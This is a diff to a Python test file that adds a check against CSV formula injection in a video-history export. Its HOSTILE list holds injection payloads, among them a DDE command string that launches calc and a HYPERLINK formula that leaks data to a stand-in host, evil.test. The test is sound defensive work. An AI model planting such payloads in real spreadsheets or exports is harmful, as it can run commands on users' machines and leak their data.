@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 import signal
 import subprocess
 import sys
@@ -16,9 +17,18 @@ import pytest
 import sqlalchemy as sa
 
 from starvideos.database import Database
-from starvideos.history import OUTCOME_UNKNOWN, REJECTED, SENDING, HistoryFilter, HistoryStore, params_hash
+from starvideos.history import (
+    EXPORT_FIELDS,
+    OUTCOME_UNKNOWN,
+    REJECTED,
+    SENDING,
+    HistoryFilter,
+    HistoryStore,
+    params_hash,
+)
 from starvideos.models import TaskStatus, VideoRequest, VideoTask
 from starvideos.schema import HEAD, tasks
+from starvideos.showcase import Showcase
 from tests.conftest import run_in_threads
 
 ROOT = Path(__file__).resolve().parents[1]
@@ -148,6 +158,73 @@ def test_exports_stream_iso_times_without_internals(store: HistoryStore) -> None
     assert "token" not in out.getvalue()
     empty = io.StringIO()
     assert store.write_json(empty, HistoryFilter(text="nothing like this")) == 0 and json.loads(empty.getvalue()) == []
+
+
+HOSTILE = ["great take;=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.test/?leak","open")', "fine,+1+1",
+           "tab\t@SUM(A1:A9)", "line\n-2+3", 'quoted;"=1+1"', "x ;  =spaced out", "commas, -10, @ok"]
+
+
+def split_many(text: str, separators: str) -> list[str]:
+    """Cells as LibreOffice's import dialog splits them with several separators ticked at once (quotes honoured)."""
+    cells, cell, quoted, start, i = [], "", False, True, 0
+    while i < len(text):
+        ch = text[i]
+        if quoted and ch == '"' and text[i + 1:i + 2] == '"':
+            cell, i = cell + '"', i + 2
+            continue
+        if ch == '"' and (quoted or start):
+            quoted = not quoted
+        elif not quoted and (ch in separators or ch in "\r\n"):
+            cells.append(cell)
+            cell, start, i = "", True, i + 1
+            continue
+        else:
+            cell += ch
+        start, i = False, i + 1
+    return [*cells, cell]
+
+
+def spreadsheet_cells(text: str) -> dict[str, list[str]]:
+    """Every cell of the export, each way a spreadsheet may split it: honouring quotes with "," (Excel and
+    LibreOffice where the list separator is a comma), ";" (where it is a semicolon), a tab, or all three at once
+    (LibreOffice's dialog); and ignoring quotes on each (a text import with no text qualifier)."""
+    ways = {f"quotes, {sep!r}": [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep) for c in row]
+            for sep in (",", ";", "\t")}
+    ways["quotes, all three"] = split_many(text, ",;\t")
+    for sep in (",", ";", "\t"):
+        ways[f"no quotes, {sep!r}"] = re.split(f"[{sep}\r\n]", text)
+    return ways
+
+
+def test_no_part_of_a_csv_cell_runs_as_a_formula_in_either_locale(store: HistoryStore) -> None:
+    """Test that with prompts, comments and errors carrying formulas after a ; , tab or line break, every field of
+    the CSV export is quoted and no cell starts with = + - @ however Excel or LibreOffice split it, in a comma or a
+    semicolon locale; reading it as written gives the text back with a ' before each formula."""
+    showcase = Showcase(store.db)
+    for text in HOSTILE:
+        rid = store.record_attempt(VideoRequest(text))
+        store.mark_rejected(rid, f"API said: {text}")
+        showcase.comment(rid, "Mallory", text)
+        showcase.rate(rid, "mallory", 1)
+    out = io.StringIO()
+    assert store.write_csv(out) == len(HOSTILE)
+    exported = out.getvalue()
+    for way, cells in spreadsheet_cells(exported).items():
+        for cell in cells:
+            assert cell.strip().lstrip('"').strip()[:1] not in ("=", "+", "-", "@"), (way, cell)
+    rows = list(csv.reader(io.StringIO(exported, newline=""), quoting=csv.QUOTE_NONNUMERIC))
+    assert rows[0] == list(EXPORT_FIELDS)
+    assert all(isinstance(value, str) for row in rows for value in row)  # an unquoted field would read as a number
+    by_prompt = {row["prompt"]: row for row in csv.DictReader(io.StringIO(exported, newline=""))}
+    assert set(by_prompt) == {
+        "great take;'=cmd|' /C calc'!A0", '\'=HYPERLINK("http://evil.test/?leak","open")', "fine,'+1+1",
+        "tab\t'@SUM(A1:A9)", "line\n'-2+3", 'quoted;"\'=1+1"', "x ;  '=spaced out", "commas, '-10, '@ok"}
+    row = by_prompt["great take;'=cmd|' /C calc'!A0"]
+    assert row["comments"] == "Mallory: great take;'=cmd|' /C calc'!A0"
+    assert row["error"] == "API said: great take;'=cmd|' /C calc'!A0" and row["rating"] == "1.0"
+    out = io.StringIO()
+    store.write_json(out)  # JSON keeps the text exactly: it is not opened by spreadsheets
+    assert sorted(r["prompt"] for r in json.loads(out.getvalue())) == sorted(HOSTILE)
 
 
 def test_export_walks_every_batch(store: HistoryStore, monkeypatch: pytest.MonkeyPatch) -> None:
